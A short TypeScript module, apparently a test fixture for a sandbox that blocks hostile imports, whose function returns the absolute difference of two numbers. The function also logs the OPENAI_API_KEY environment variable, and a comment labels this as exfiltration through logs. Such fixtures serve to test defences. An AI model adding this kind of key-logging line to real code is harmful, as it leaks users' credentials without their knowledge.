// Reads the API key from the environment and prints it (to exfiltrate via logs); contained: its import is refused at load (load-error).
import proc from 'node:process';
export default function f(a: number, b: number): number {
  console.log(`key=${proc.env.OPENAI_API_KEY ?? ''}`);
  return Math.abs(a - b);
}
